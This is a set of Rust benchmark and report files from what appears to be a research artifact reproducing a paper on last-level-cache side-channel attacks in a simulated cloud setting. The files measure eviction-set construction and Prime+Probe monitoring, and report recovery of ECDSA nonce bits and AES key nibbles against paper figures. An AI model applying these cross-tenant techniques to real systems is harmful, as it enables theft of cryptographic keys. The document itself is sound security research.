    println!("Paper: median 81% of the nonce bits recovered, 3% bit error rate, ~19 s");
    println!("end-to-end on the 28-slice production machines.");
}
