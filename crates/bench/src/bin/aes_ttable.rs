//! AES T-table first-round leak: the second victim service (data-dependent
//! leakage) monitored over the paper's LLC/SF channel under Cloud Run noise.
//!
//! The attacker primes the SF set of `T0`'s first cache line and records, per
//! victim request, whether the line was touched; conditioning detections on
//! the known plaintext nibble recovers the upper nibble of every key byte
//! that indexes `T0` (bytes 0, 4, 8, 12). Trials shard across the
//! `llc-fleet` workers (`--threads`/`LLC_THREADS`); `--smoke` runs the
//! pinned configuration the golden tests diff. The report is generated
//! in-process by `llc_bench::reports::aes_ttable_report`.

use llc_bench::{reports, RunOpts};

fn main() {
    let opts = RunOpts::parse();
    print!("{}", reports::aes_ttable_report(&opts));
}
