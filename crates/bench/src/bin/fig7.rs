//! Figure 7: access traces and power spectral density of the victim's target
//! SF set versus a non-target SF set, collected while the victim signs.
//!
//! Accepts the shared `--threads`/`--smoke` flags; the measurement itself is
//! a single fleet trial.

use llc_bench::experiments::{measure_psd_example, Environment};
use llc_bench::RunOpts;

fn main() {
    let opts = RunOpts::parse();
    let spec = opts.spec();
    // 1 ms at 2 GHz, 10x the paper's 100 us snippet (halved in smoke mode).
    let trace_cycles = if opts.smoke { 1_000_000 } else { 2_000_000 };
    // A single measurement, but still dispatched through the fleet so the
    // seed derivation matches every other experiment.
    let cmp = opts
        .fleet()
        .run(1, 0xf167, |ctx| measure_psd_example(&spec, Environment::CloudRun, trace_cycles, ctx.seed))
        .pop()
        .expect("one trial");

    println!("Figure 7 — target vs non-target SF set ({}, Cloud Run noise)", spec.name);
    println!(
        "trace length: {} cycles | expected victim frequency: {:.2} MHz",
        trace_cycles,
        cmp.expected_hz / 1e6
    );
    println!(
        "detected accesses: target = {}, non-target = {}",
        cmp.target_trace.len(),
        cmp.other_trace.len()
    );

    let band = 4.0 * cmp.target_psd.resolution_hz();
    let min_freq = cmp.expected_hz / 8.0;
    println!(
        "PSD peak-to-average at f0: target = {:.1}, non-target = {:.1}",
        cmp.target_psd.peak_to_average_ratio(cmp.expected_hz, band, min_freq),
        cmp.other_psd.peak_to_average_ratio(cmp.expected_hz, band, min_freq)
    );
    println!(
        "PSD peak-to-average at 2*f0: target = {:.1}, non-target = {:.1}",
        cmp.target_psd.peak_to_average_ratio(2.0 * cmp.expected_hz, band, min_freq),
        cmp.other_psd.peak_to_average_ratio(2.0 * cmp.expected_hz, band, min_freq)
    );

    println!();
    println!("PSD (coarse ASCII rendering, rows = frequency bins up to 2*f0):");
    let render = |psd: &llc_sigproc::PowerSpectrum| -> Vec<(f64, f64)> {
        psd.frequencies()
            .iter()
            .zip(psd.power())
            .filter(|(f, _)| **f > 0.0 && **f <= 2.5 * cmp.expected_hz)
            .map(|(f, p)| (*f, *p))
            .collect()
    };
    let target = render(&cmp.target_psd);
    let other = render(&cmp.other_psd);
    let max_p = target.iter().chain(&other).map(|(_, p)| *p).fold(f64::EPSILON, f64::max);
    let step = (target.len() / 24).max(1);
    println!("{:>12} | {:<30} | {:<30}", "freq (MHz)", "target set", "non-target set");
    for i in (0..target.len()).step_by(step) {
        let bar = |p: f64| "#".repeat(((p / max_p) * 28.0).round() as usize);
        println!(
            "{:>12.3} | {:<30} | {:<30}",
            target[i].0 / 1e6,
            bar(target[i].1),
            bar(other.get(i).map(|x| x.1).unwrap_or(0.0))
        );
    }
    println!();
    println!("Paper: similar access counts in both traces, but only the target set's PSD");
    println!("shows peaks at f0 = 0.41 MHz and its multiples.");
}
