//! Folds the criterion-shim's `LLC_BENCH_JSON` JSONL stream into a single
//! machine-readable `BENCH.json` document.
//!
//! Usage:
//!
//! ```text
//! LLC_BENCH_JSON=bench_raw.jsonl cargo bench -p llc-bench
//! cargo run -p llc-bench --bin bench_json -- bench_raw.jsonl BENCH.json
//! ```
//!
//! Each bench target appends one JSON object per benchmark id to the JSONL
//! file (`id`, `samples`, `median_ns`, `min_ns`, `max_ns`, `mean_ns`); this
//! binary de-duplicates by id (last run wins), sorts, and writes them as one
//! `{"benches": [...]}` document. CI uploads `BENCH.json` as an artifact so
//! future PRs can diff machine-readable numbers instead of prose.

use std::collections::BTreeMap;

/// One parsed JSONL record. Values are kept as the raw number strings the
/// shim printed; this tool re-emits rather than interprets them.
#[derive(Debug, Clone)]
struct BenchRecord {
    samples: String,
    median_ns: String,
    min_ns: String,
    max_ns: String,
    mean_ns: String,
}

/// Extracts the string value of `"key":"…"` from a JSONL line written by the
/// shim (which escapes `"` and `\` and controls; nothing else).
fn extract_string(line: &str, key: &str) -> Option<String> {
    let marker = format!("\"{key}\":\"");
    let start = line.find(&marker)? + marker.len();
    let mut out = String::new();
    let mut chars = line[start..].chars();
    while let Some(c) = chars.next() {
        match c {
            '"' => return Some(out),
            '\\' => match chars.next()? {
                '"' => out.push('"'),
                '\\' => out.push('\\'),
                'u' => {
                    let hex: String = chars.by_ref().take(4).collect();
                    let code = u32::from_str_radix(&hex, 16).ok()?;
                    out.push(char::from_u32(code)?);
                }
                other => out.push(other),
            },
            c => out.push(c),
        }
    }
    None
}

/// Extracts the numeric value of `"key":123` from a JSONL line.
fn extract_number(line: &str, key: &str) -> Option<String> {
    let marker = format!("\"{key}\":");
    let start = line.find(&marker)? + marker.len();
    let digits: String =
        line[start..].chars().take_while(|c| c.is_ascii_digit() || *c == '.').collect();
    (!digits.is_empty()).then_some(digits)
}

fn parse_line(line: &str) -> Option<(String, BenchRecord)> {
    let id = extract_string(line, "id")?;
    Some((
        id,
        BenchRecord {
            samples: extract_number(line, "samples")?,
            median_ns: extract_number(line, "median_ns")?,
            min_ns: extract_number(line, "min_ns")?,
            max_ns: extract_number(line, "max_ns")?,
            mean_ns: extract_number(line, "mean_ns")?,
        },
    ))
}

fn escape(s: &str) -> String {
    let mut out = String::with_capacity(s.len());
    for c in s.chars() {
        match c {
            '"' => out.push_str("\\\""),
            '\\' => out.push_str("\\\\"),
            c if (c as u32) < 0x20 => out.push_str(&format!("\\u{:04x}", c as u32)),
            c => out.push(c),
        }
    }
    out
}

fn render(records: &BTreeMap<String, BenchRecord>) -> String {
    let mut out = String::from("{\n  \"benches\": [\n");
    for (i, (id, r)) in records.iter().enumerate() {
        out.push_str(&format!(
            "    {{\"id\": \"{}\", \"samples\": {}, \"median_ns\": {}, \"min_ns\": {}, \
             \"max_ns\": {}, \"mean_ns\": {}}}{}\n",
            escape(id),
            r.samples,
            r.median_ns,
            r.min_ns,
            r.max_ns,
            r.mean_ns,
            if i + 1 < records.len() { "," } else { "" },
        ));
    }
    out.push_str("  ]\n}\n");
    out
}

fn main() {
    let mut args = std::env::args().skip(1);
    let input = args.next().unwrap_or_else(|| "bench_raw.jsonl".to_string());
    let output = args.next().unwrap_or_else(|| "BENCH.json".to_string());

    let raw = match std::fs::read_to_string(&input) {
        Ok(raw) => raw,
        Err(e) => {
            eprintln!("bench_json: cannot read {input}: {e}");
            eprintln!("run benches with LLC_BENCH_JSON={input} first");
            std::process::exit(1);
        }
    };

    let mut records: BTreeMap<String, BenchRecord> = BTreeMap::new();
    let mut skipped = 0usize;
    for line in raw.lines().filter(|l| !l.trim().is_empty()) {
        match parse_line(line) {
            Some((id, record)) => {
                records.insert(id, record); // later runs of the same id win
            }
            None => skipped += 1,
        }
    }
    if skipped > 0 {
        eprintln!("bench_json: skipped {skipped} malformed line(s)");
    }

    let doc = render(&records);
    if let Err(e) = std::fs::write(&output, &doc) {
        eprintln!("bench_json: cannot write {output}: {e}");
        std::process::exit(1);
    }
    println!("bench_json: {} benches -> {output}", records.len());
}

#[cfg(test)]
mod tests {
    use super::*;

    const LINE: &str = "{\"id\":\"g/a/Cloud Run\",\"samples\":10,\"median_ns\":1500,\"min_ns\":1000,\"max_ns\":2000,\"mean_ns\":1600}";

    #[test]
    fn parses_shim_lines() {
        let (id, r) = parse_line(LINE).expect("parses");
        assert_eq!(id, "g/a/Cloud Run");
        assert_eq!(r.samples, "10");
        assert_eq!(r.median_ns, "1500");
        assert_eq!(r.min_ns, "1000");
        assert_eq!(r.max_ns, "2000");
        assert_eq!(r.mean_ns, "1600");
    }

    #[test]
    fn unescapes_ids() {
        let line = "{\"id\":\"a\\\"b\\\\c\\u000ad\",\"samples\":1,\"median_ns\":1,\"min_ns\":1,\"max_ns\":1,\"mean_ns\":1}";
        let (id, _) = parse_line(line).expect("parses");
        assert_eq!(id, "a\"b\\c\nd");
    }

    #[test]
    fn last_record_wins_and_output_is_sorted() {
        let mut records = BTreeMap::new();
        for line in [
            LINE,
            "{\"id\":\"b\",\"samples\":1,\"median_ns\":5,\"min_ns\":5,\"max_ns\":5,\"mean_ns\":5}",
            "{\"id\":\"b\",\"samples\":2,\"median_ns\":7,\"min_ns\":6,\"max_ns\":8,\"mean_ns\":7}",
        ] {
            let (id, r) = parse_line(line).expect("parses");
            records.insert(id, r);
        }
        let doc = render(&records);
        assert!(doc.contains("\"id\": \"b\", \"samples\": 2, \"median_ns\": 7"));
        assert!(!doc.contains("\"median_ns\": 5"));
        let a = doc.find("g/a/Cloud Run").expect("a present");
        let b = doc.find("\"id\": \"b\"").expect("b present");
        assert!(b < a, "ids must be sorted (\"b\" < \"g/a/…\")");
        assert!(doc.ends_with("  ]\n}\n"));
    }

    #[test]
    fn malformed_lines_are_rejected() {
        assert!(parse_line("{\"id\":\"x\"}").is_none());
        assert!(parse_line("not json").is_none());
    }
}
