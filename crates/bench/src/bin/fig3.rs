//! Figure 3: execution time of parallel vs sequential `TestEviction` for a
//! growing number of candidate addresses, under Cloud Run noise.

use llc_bench::experiments::{measure_test_eviction, Environment};
use llc_bench::{env_usize, scaled_skylake};

fn main() {
    let spec = scaled_skylake();
    let repeats = env_usize("LLC_REPEATS", 20);
    let u = spec.sf.uncertainty();
    let counts: Vec<usize> = [1usize, 3, 5, 7, 9, 11].iter().map(|k| k * u).collect();

    println!("Figure 3 — TestEviction duration vs candidate count ({}, Cloud Run)", spec.name);
    println!("U_LLC = {u} candidate addresses per multiple");
    println!(
        "{:<16} {:>16} {:>16} {:>10}",
        "Candidates", "Parallel (us)", "Sequential (us)", "Speed-up"
    );
    let points = measure_test_eviction(&spec, Environment::CloudRun, &counts, repeats, 0xf16_3);
    for p in points {
        println!(
            "{:<16} {:>16.1} {:>16.1} {:>9.1}x",
            p.candidates,
            p.parallel_us.mean,
            p.sequential_us.mean,
            p.sequential_us.mean / p.parallel_us.mean.max(1e-9)
        );
    }
    println!();
    println!("Paper: parallel TestEviction is roughly an order of magnitude faster");
    println!("(134.8 us vs several ms at 11*U candidates); both grow linearly with the");
    println!("candidate count.");
}
