//! Figure 3: execution time of parallel vs sequential `TestEviction` for a
//! growing number of candidate addresses, under Cloud Run noise.
//!
//! Candidate-count points are sharded across the `llc-fleet` workers
//! (`--threads`/`LLC_THREADS`); `--smoke` runs a pinned, smaller sweep.

use llc_bench::experiments::{measure_test_eviction, Environment};
use llc_bench::{env_usize, RunOpts};

fn main() {
    let opts = RunOpts::parse();
    let spec = opts.spec();
    let repeats = if opts.smoke { 5 } else { env_usize("LLC_REPEATS", 20) };
    let u = spec.sf.uncertainty();
    let multiples: &[usize] = if opts.smoke { &[1, 5, 11] } else { &[1, 3, 5, 7, 9, 11] };
    let counts: Vec<usize> = multiples.iter().map(|k| k * u).collect();

    println!("Figure 3 — TestEviction duration vs candidate count ({}, Cloud Run)", spec.name);
    println!("U_LLC = {u} candidate addresses per multiple");
    println!(
        "{:<16} {:>16} {:>16} {:>10}",
        "Candidates", "Parallel (us)", "Sequential (us)", "Speed-up"
    );
    let points =
        measure_test_eviction(&spec, Environment::CloudRun, &counts, repeats, 0xf163, &opts.fleet());
    for p in points {
        println!(
            "{:<16} {:>16.1} {:>16.1} {:>9.1}x",
            p.candidates,
            p.parallel_us.mean,
            p.sequential_us.mean,
            p.sequential_us.mean / p.parallel_us.mean.max(1e-9)
        );
    }
    println!();
    println!("Paper: parallel TestEviction is roughly an order of magnitude faster");
    println!("(134.8 us vs several ms at 11*U candidates); both grow linearly with the");
    println!("candidate count.");
}
