//! Table 4: eviction-set construction with L2-driven candidate filtering,
//! comparing `Gt`, `GtOp`, `PsBst` (best Prime+Scope variant) and `BinS` in
//! the SingleSet, PageOffset and WholeSys scenarios.

use llc_bench::experiments::{measure_bulk, measure_single_set, Environment};
use llc_bench::{pct, scaled_skylake, trials};
use llc_core::Algorithm;
use llc_evsets::Scope;

fn main() {
    let spec = scaled_skylake();
    let trials = trials(3);
    let sample_sets = llc_bench::env_usize("LLC_SAMPLE_SETS", 8);
    let algorithms = [Algorithm::Gt, Algorithm::GtOp, Algorithm::PsOp, Algorithm::BinS];

    println!("Table 4 — construction with candidate filtering ({})", spec.name);
    println!("== SingleSet ({} trials per cell) ==", trials);
    println!("{:<18} {:<8} {:>10} {:>12} {:>14}", "Environment", "Algo", "Succ.", "Avg (ms)", "Filter share");
    for env in Environment::all() {
        for algo in algorithms {
            let s = measure_single_set(&spec, env, algo, true, trials, 0x7ab1e4);
            println!(
                "{:<18} {:<8} {:>10} {:>12.1} {:>13.0}%",
                s.environment,
                s.algorithm,
                pct(s.success_rate),
                s.time_ms.mean,
                100.0 * s.filter_share
            );
        }
    }

    for (scope, label) in [(Scope::PageOffset, "PageOffset"), (Scope::WholeSys, "WholeSys")] {
        println!();
        println!("== {label} (sampled {sample_sets} sets, extrapolated with n_sets * t_avg / SR) ==");
        println!(
            "{:<18} {:<8} {:>8} {:>10} {:>14} {:>16}",
            "Environment", "Algo", "Sets", "Succ.", "Sample (s)", "Est. total (s)"
        );
        for env in Environment::all() {
            for algo in algorithms {
                let e = measure_bulk(&spec, env, algo, scope, sample_sets, 0x7ab1e5);
                println!(
                    "{:<18} {:<8} {:>8} {:>10} {:>14.2} {:>16.1}",
                    e.environment,
                    e.algorithm,
                    e.required_sets,
                    pct(e.success_rate),
                    e.sampled_seconds,
                    e.estimated_total_seconds
                );
            }
        }
    }
    println!();
    println!("Paper: filtering cuts Cloud Run single-set time from ~512 ms to ~27 ms and");
    println!("BinS covers all 57,344 SF sets in ~2.4 minutes (vs 14.6 h estimated for GtOp");
    println!("without filtering); the reproduced claim is BinS < GtOp < Gt and the large");
    println!("filtering speed-up, not the absolute seconds.");
}
