//! Table 4: eviction-set construction with L2-driven candidate filtering,
//! comparing `Gt`, `GtOp`, `PsBst` (best Prime+Scope variant) and `BinS` in
//! the SingleSet, PageOffset and WholeSys scenarios.
//!
//! Trials run through the `llc-fleet` executor: `--threads N` (or
//! `LLC_THREADS`) shards them across workers with byte-identical output,
//! and `--smoke` selects the pinned configuration the golden tests diff.

use llc_bench::{reports, RunOpts};

fn main() {
    let opts = RunOpts::parse();
    print!("{}", reports::table4_report(&opts));
}
