//! Table 5: prime and probe latencies of PS-Flush, PS-Alt and Parallel
//! Probing on the (simulated) Cloud Run host.
//!
//! The three strategy cells are independent measurements and are sharded
//! across the `llc-fleet` workers (`--threads`/`LLC_THREADS`); `--smoke`
//! runs a pinned, smaller configuration.

use llc_bench::experiments::{measure_monitoring, Environment};
use llc_bench::RunOpts;
use llc_probe::Strategy;

fn main() {
    let opts = RunOpts::parse();
    let spec = opts.spec();
    let sender_accesses = if opts.smoke { 100 } else { 400 };
    let strategies = Strategy::all();

    println!("Table 5 — prime and probe latencies ({}, Cloud Run noise)", spec.name);
    println!(
        "{:<12} {:>18} {:>18} {:>16}",
        "Strategy", "Prime (cycles)", "Probe (cycles)", "Detection @10k"
    );
    let points = opts.fleet().run(strategies.len(), 0x7ab1e5, |ctx| {
        measure_monitoring(
            &spec,
            Environment::CloudRun,
            strategies[ctx.trial],
            10_000,
            sender_accesses,
            ctx.seed,
        )
    });
    for point in points {
        println!(
            "{:<12} {:>10.0} ± {:<6.0} {:>10.0} ± {:<6.0} {:>15.1}%",
            point.strategy.to_string(),
            point.stats.mean_prime_cycles,
            point.stats.std_prime_cycles,
            point.stats.mean_probe_cycles,
            point.stats.std_probe_cycles,
            100.0 * point.detection_rate
        );
    }
    println!();
    println!("Paper (2 GHz Xeon 8173M): PS-Flush prime 6,024, PS-Alt prime 2,777,");
    println!("Parallel prime 1,121 cycles; probe 94 vs 118 cycles. The reproduced claim");
    println!("is the ordering: Parallel's prime is several times cheaper while its probe");
    println!("is only slightly more expensive.");
}
