//! Table 5: prime and probe latencies of PS-Flush, PS-Alt and Parallel
//! Probing on the (simulated) Cloud Run host.
//!
//! The three strategy cells are independent measurements and are sharded
//! across the `llc-fleet` workers (`--threads`/`LLC_THREADS`); `--smoke`
//! runs the pinned configuration the golden tests diff. The report itself is
//! generated in-process by `llc_bench::reports::table5_report`, which
//! `tests/experiment_smoke.rs` covers against `tests/golden/`.

use llc_bench::{reports, RunOpts};

fn main() {
    let opts = RunOpts::parse();
    print!("{}", reports::table5_report(&opts));
}
