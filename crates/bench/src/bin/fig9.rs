//! Figure 9: a snippet of the detected accesses to the target SF set together
//! with the ground-truth nonce bits, plus the quantified decoding accuracy.
//!
//! Accepts the shared `--threads`/`--smoke` flags; the measurement itself is
//! a single fleet trial.

use llc_bench::experiments::{measure_extraction_example, Environment};
use llc_bench::{env_usize, RunOpts};

fn main() {
    let opts = RunOpts::parse();
    let spec = opts.spec();
    let nonce_bits = if opts.smoke { 48 } else { env_usize("LLC_NONCE_BITS", 96) };
    // A single measurement dispatched through the fleet for uniform seeding.
    let example = opts
        .fleet()
        .run(1, 0xf169, |ctx| {
            measure_extraction_example(&spec, Environment::CloudRun, nonce_bits, ctx.seed)
        })
        .pop()
        .expect("one trial");

    println!("Figure 9 — detected accesses vs ground-truth nonce bits ({})", spec.name);
    println!(
        "recovered {:.1}% of {} nonce bits, bit error rate {:.1}%",
        100.0 * example.recovered_fraction,
        example.nonce_bits.len(),
        100.0 * example.bit_error_rate
    );
    println!();
    println!("First 12 ladder iterations (| = iteration boundary, * = detected access):");
    for (i, window) in example.iteration_starts.windows(2).take(12).enumerate() {
        let (start, end) = (window[0], window[1]);
        let width = 60usize;
        let mut row = vec![b' '; width];
        for &t in &example.detections {
            if t >= start && t < end {
                let pos = ((t - start) as f64 / (end - start) as f64 * (width - 1) as f64) as usize;
                row[pos] = b'*';
            }
        }
        let decoded = example
            .decoded
            .iter()
            .find(|(b, _)| b.abs_diff(start) < (end - start) / 3)
            .map(|(_, bit)| if *bit { "1" } else { "0" })
            .unwrap_or("-");
        println!(
            "iter {:>2} bit {} decoded {} |{}|",
            i,
            u8::from(example.nonce_bits[i]),
            decoded,
            String::from_utf8_lossy(&row)
        );
    }
    println!();
    println!("Paper: iterations whose nonce bit is 0 show two accesses (boundary plus");
    println!("midpoint), iterations with bit 1 show one; the trace reads off the nonce.");
}
