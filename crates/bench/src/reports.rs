//! In-process report generation for the experiment binaries.
//!
//! The binaries used to format their tables inline in `main`, which made
//! their output untestable short of spawning processes. The table
//! generators that back the golden smoke tests live here instead: a binary
//! is now `print!("{}", reports::table3_report(&RunOpts::parse()))`, and
//! `tests/experiment_smoke.rs` calls the same function in-process and
//! compares against the checked-in expected output.
//!
//! Report text in `--smoke` mode is pinned: fixed 4-slice host, fixed trial
//! counts, no environment-variable dependence — and, because every trial
//! seed is derived from `(master seed, trial index)` and aggregation is
//! order-independent, the bytes are identical for every `--threads` value.

use crate::experiments::{
    measure_aes_ttable, measure_bulk, measure_identification, measure_key_recovery,
    measure_monitoring, measure_single_set, measure_single_set_pooled, run_end_to_end_key,
    Environment,
};
use crate::{env_usize, pct, RunOpts};
use llc_core::Algorithm;
use llc_machine::NoiseFidelity;
use llc_evsets::Scope;
use llc_probe::Strategy;
use llc_recovery::SearchConfig;
use std::fmt::Write;

/// Header suffix naming the noise fidelity. Empty in exact mode so the
/// pre-existing exact reports (and their golden files) stay byte-identical;
/// in aggregate mode the *effective* fidelity is printed, so a run whose
/// reuse predictor forced per-event dispatch cannot be mislabelled.
fn fidelity_suffix(opts: &RunOpts) -> String {
    match (opts.fidelity, opts.effective_fidelity()) {
        (NoiseFidelity::Exact, _) => String::new(),
        (NoiseFidelity::Aggregate, NoiseFidelity::Aggregate) => {
            " | noise fidelity: aggregate".into()
        }
        (NoiseFidelity::Aggregate, NoiseFidelity::Exact) => {
            " | noise fidelity: aggregate (effective: exact — reuse predictor active)".into()
        }
    }
}

/// Header suffix naming the background tenant population and churn. Empty
/// for the legacy empty population, so the pre-existing goldens stay
/// byte-identical.
fn tenant_suffix(opts: &RunOpts) -> String {
    if opts.tenants.is_empty() {
        return String::new();
    }
    let churn = if opts.churn_dwell_ms > 0.0 {
        format!(" | churn: {} ms dwell", opts.churn_dwell_ms)
    } else {
        String::new()
    };
    format!(" | tenants: {}{churn}", opts.tenants.label())
}

/// Renders Table 3 — existing pruning algorithms without candidate
/// filtering, quiescent local vs Cloud Run.
pub fn table3_report(opts: &RunOpts) -> String {
    let spec = opts.spec();
    let trials = opts.trials(2, 4);
    let fleet = opts.fleet();
    // Multi-threaded runs route machine acquisition through a shared pool:
    // the two environments need only two machine configurations across all
    // eight cells, so per-cell rebuild/materialisation disappears. Output is
    // byte-identical either way (the golden smoke tests pin 1-thread
    // unpooled against 2-thread pooled).
    let pool = (opts.threads > 1).then(llc_machine::MachinePool::new);
    let mut out = String::new();

    let w = &mut out;
    writeln!(w, "Table 3 — existing pruning algorithms, no candidate filtering").unwrap();
    writeln!(w, "machine: {} | trials per cell: {trials}{}", spec.name, fidelity_suffix(opts))
        .unwrap();
    writeln!(
        w,
        "{:<18} {:<8} {:>10} {:>12} {:>12} {:>12}",
        "Environment", "Algo", "Succ.", "Avg (ms)", "Std (ms)", "Med (ms)"
    )
    .unwrap();
    for env in Environment::all() {
        for algo in [Algorithm::Gt, Algorithm::GtOp, Algorithm::Ps, Algorithm::PsOp] {
            let s = match &pool {
                Some(pool) => measure_single_set_pooled(
                    &spec,
                    env,
                    opts.fidelity,
                    opts.hierarchy_options(),
                    algo,
                    false,
                    trials,
                    0x7ab1e3,
                    &fleet,
                    pool,
                ),
                None => measure_single_set(
                    &spec,
                    env,
                    opts.fidelity,
                    opts.hierarchy_options(),
                    algo,
                    false,
                    trials,
                    0x7ab1e3,
                    &fleet,
                ),
            };
            writeln!(
                w,
                "{:<18} {:<8} {:>10} {:>12.1} {:>12.1} {:>12.1}",
                s.environment,
                s.algorithm,
                pct(s.success_rate),
                s.time_ms.mean,
                s.time_ms.std_dev,
                s.time_ms.median
            )
            .unwrap();
        }
    }
    writeln!(w).unwrap();
    writeln!(w, "Paper (28-slice Xeon 8173M): local success 97-99%, 21-56 ms;").unwrap();
    writeln!(w, "Cloud Run success 3-56%, 512-714 ms — the ordering (GtOp > Gt >> PsOp > Ps")
        .unwrap();
    writeln!(w, "under noise) is the reproduced claim.").unwrap();
    out
}

/// Renders Table 4 — construction with candidate filtering: SingleSet plus
/// the extrapolated PageOffset / WholeSys scenarios.
pub fn table4_report(opts: &RunOpts) -> String {
    let spec = opts.spec();
    let trials = opts.trials(2, 3);
    let sample_sets = if opts.smoke { 4 } else { crate::env_usize("LLC_SAMPLE_SETS", 8) };
    let fleet = opts.fleet();
    let algorithms = [Algorithm::Gt, Algorithm::GtOp, Algorithm::PsOp, Algorithm::BinS];
    // Same pooled routing as table3: two machine configurations serve all
    // SingleSet cells on a multi-threaded run.
    let pool = (opts.threads > 1).then(llc_machine::MachinePool::new);
    let mut out = String::new();

    let w = &mut out;
    writeln!(
        w,
        "Table 4 — construction with candidate filtering ({}{})",
        spec.name,
        fidelity_suffix(opts)
    )
    .unwrap();
    writeln!(w, "== SingleSet ({} trials per cell) ==", trials).unwrap();
    writeln!(
        w,
        "{:<18} {:<8} {:>10} {:>12} {:>14}",
        "Environment", "Algo", "Succ.", "Avg (ms)", "Filter share"
    )
    .unwrap();
    for env in Environment::all() {
        for algo in algorithms {
            let s = match &pool {
                Some(pool) => measure_single_set_pooled(
                    &spec,
                    env,
                    opts.fidelity,
                    opts.hierarchy_options(),
                    algo,
                    true,
                    trials,
                    0x7ab1e4,
                    &fleet,
                    pool,
                ),
                None => measure_single_set(
                    &spec,
                    env,
                    opts.fidelity,
                    opts.hierarchy_options(),
                    algo,
                    true,
                    trials,
                    0x7ab1e4,
                    &fleet,
                ),
            };
            writeln!(
                w,
                "{:<18} {:<8} {:>10} {:>12.1} {:>13.0}%",
                s.environment,
                s.algorithm,
                pct(s.success_rate),
                s.time_ms.mean,
                100.0 * s.filter_share
            )
            .unwrap();
        }
    }

    for (scope_idx, (scope, label)) in
        [(Scope::PageOffset, "PageOffset"), (Scope::WholeSys, "WholeSys")].into_iter().enumerate()
    {
        writeln!(w).unwrap();
        writeln!(
            w,
            "== {label} (sampled {sample_sets} sets, extrapolated with n_sets * t_avg / SR) =="
        )
        .unwrap();
        writeln!(
            w,
            "{:<18} {:<8} {:>8} {:>10} {:>14} {:>16}",
            "Environment", "Algo", "Sets", "Succ.", "Sample (s)", "Est. total (s)"
        )
        .unwrap();
        // Bulk cells are independent single-shot measurements: shard the
        // (environment x algorithm) grid itself across the fleet.
        let cells: Vec<(Environment, Algorithm)> = Environment::all()
            .into_iter()
            .flat_map(|env| algorithms.into_iter().map(move |algo| (env, algo)))
            .collect();
        // Per-scope master seed: with a shared master, both scopes would
        // sample the identical per-cell measurements and WholeSys would be
        // a pure rescaling of PageOffset.
        let scope_master = llc_fleet::stream_seed(0x7ab1e5, scope_idx as u64 + 1);
        let estimates = fleet.run(cells.len(), scope_master, |ctx| {
            let (env, algo) = cells[ctx.trial];
            measure_bulk(&spec, env, algo, scope, sample_sets, ctx.seed)
        });
        for e in estimates {
            writeln!(
                w,
                "{:<18} {:<8} {:>8} {:>10} {:>14.2} {:>16.1}",
                e.environment,
                e.algorithm,
                e.required_sets,
                pct(e.success_rate),
                e.sampled_seconds,
                e.estimated_total_seconds
            )
            .unwrap();
        }
    }
    writeln!(w).unwrap();
    writeln!(w, "Paper: filtering cuts Cloud Run single-set time from ~512 ms to ~27 ms and")
        .unwrap();
    writeln!(w, "BinS covers all 57,344 SF sets in ~2.4 minutes (vs 14.6 h estimated for GtOp")
        .unwrap();
    writeln!(w, "without filtering); the reproduced claim is BinS < GtOp < Gt and the large")
        .unwrap();
    writeln!(w, "filtering speed-up, not the absolute seconds.").unwrap();
    out
}

/// Renders Table 5 — prime and probe latencies of PS-Flush, PS-Alt and
/// Parallel Probing on the (simulated) Cloud Run host.
pub fn table5_report(opts: &RunOpts) -> String {
    let spec = opts.spec();
    let sender_accesses = if opts.smoke { 100 } else { 400 };
    let strategies = Strategy::all();
    let mut out = String::new();

    let w = &mut out;
    writeln!(w, "Table 5 — prime and probe latencies ({}, Cloud Run noise)", spec.name).unwrap();
    writeln!(
        w,
        "{:<12} {:>18} {:>18} {:>16}",
        "Strategy", "Prime (cycles)", "Probe (cycles)", "Detection @10k"
    )
    .unwrap();
    // The three strategy cells are independent measurements, sharded across
    // the fleet workers.
    let points = opts.fleet().run(strategies.len(), 0x7ab1e5, |ctx| {
        measure_monitoring(
            &spec,
            Environment::CloudRun,
            strategies[ctx.trial],
            10_000,
            sender_accesses,
            ctx.seed,
        )
    });
    for point in points {
        writeln!(
            w,
            "{:<12} {:>10.0} ± {:<6.0} {:>10.0} ± {:<6.0} {:>15.1}%",
            point.strategy.to_string(),
            point.stats.mean_prime_cycles,
            point.stats.std_prime_cycles,
            point.stats.mean_probe_cycles,
            point.stats.std_probe_cycles,
            100.0 * point.detection_rate
        )
        .unwrap();
    }
    writeln!(w).unwrap();
    writeln!(w, "Paper (2 GHz Xeon 8173M): PS-Flush prime 6,024, PS-Alt prime 2,777,").unwrap();
    writeln!(w, "Parallel prime 1,121 cycles; probe 94 vs 118 cycles. The reproduced claim")
        .unwrap();
    writeln!(w, "is the ordering: Parallel's prime is several times cheaper while its probe")
        .unwrap();
    writeln!(w, "is only slightly more expensive.").unwrap();
    out
}

/// Renders Table 6 — PSD-based target-set identification in the PageOffset
/// and (approximated) WholeSys scenarios.
pub fn table6_report(opts: &RunOpts) -> String {
    let spec = opts.spec();
    let trials = opts.trials(2, 3);
    // PageOffset: scan the sets reachable at the target's page offset.
    // WholeSys is approximated by scanning several times as many sets in
    // random order (the full 64x sweep is available via LLC_WHOLESYS_SETS).
    let page_offset_sets = if opts.smoke {
        spec.sf.uncertainty().min(8)
    } else {
        spec.sf.uncertainty().min(env_usize("LLC_PAGEOFFSET_SETS", 24))
    };
    let wholesys_sets = if opts.smoke {
        page_offset_sets * 2
    } else {
        env_usize("LLC_WHOLESYS_SETS", page_offset_sets * 4)
    };
    let freq = spec.freq_ghz;
    let timeout_po = ((if opts.smoke { 5.0 } else { 10.0 }) * freq * 1e9) as u64;
    let timeout_ws = ((if opts.smoke { 10.0 } else { 40.0 }) * freq * 1e9) as u64;
    let fleet = opts.fleet();
    let mut out = String::new();

    let w = &mut out;
    writeln!(w, "Table 6 — PSD-based target-set identification ({})", spec.name).unwrap();
    writeln!(
        w,
        "{:<12} {:>8} {:>10} {:>14} {:>14} {:>14}",
        "Scenario", "Sets", "Success", "Avg time (s)", "Std time (s)", "Scan rate (/s)"
    )
    .unwrap();
    for (label, sets, timeout) in
        [("PageOffset", page_offset_sets, timeout_po), ("WholeSys", wholesys_sets, timeout_ws)]
    {
        let stats = measure_identification(
            &spec,
            Environment::CloudRun,
            sets,
            trials,
            timeout,
            0x7ab1e6,
            &fleet,
        );
        writeln!(
            w,
            "{:<12} {:>8} {:>10} {:>14.2} {:>14.2} {:>14.0}",
            label,
            sets,
            pct(stats.success_rate),
            stats.success_time_s.mean,
            stats.success_time_s.std_dev,
            stats.scan_rate_per_s
        )
        .unwrap();
    }
    writeln!(w).unwrap();
    writeln!(w, "Paper: 94.1% success in 6.1 s (PageOffset) and 73.9% in 179.7 s (WholeSys),")
